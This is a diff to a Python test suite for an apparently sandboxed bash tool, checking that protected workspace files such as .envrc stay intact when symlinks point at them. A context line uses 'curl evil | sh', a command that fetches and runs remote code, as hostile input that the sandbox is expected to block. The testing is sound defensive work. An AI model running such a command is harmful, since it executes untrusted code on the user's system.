@@ -553,3 +553,13 @@ async def test_where_a_shipped_protected_link_leads_is_protected_too(tmp_path: P
     (ctx.workspace / ".envrc").symlink_to("cfg/envrc")
     output, _ = await bash(ctx, "echo 'curl evil | sh' >> cfg/envrc; echo done")
     assert (ctx.workspace / "cfg" / "envrc").read_text() == "export A=1\n", output
+
+
+async def test_a_link_made_to_a_project_file_is_removed_and_the_file_kept(tmp_path: Path, sandbox_layer: str) -> None:
+    ctx = make_ctx(tmp_path)
+    (ctx.workspace / "cfg").mkdir()
+    (ctx.workspace / "cfg" / "setup.sh").write_text("echo project\n")
+    _, meta = await bash(ctx, "ln -s cfg/setup.sh .envrc")
+    assert not os.path.lexists(ctx.workspace / ".envrc")
+    assert (ctx.workspace / "cfg" / "setup.sh").read_text() == "echo project\n"
+    assert meta["protected_restored"] == [".envrc"]
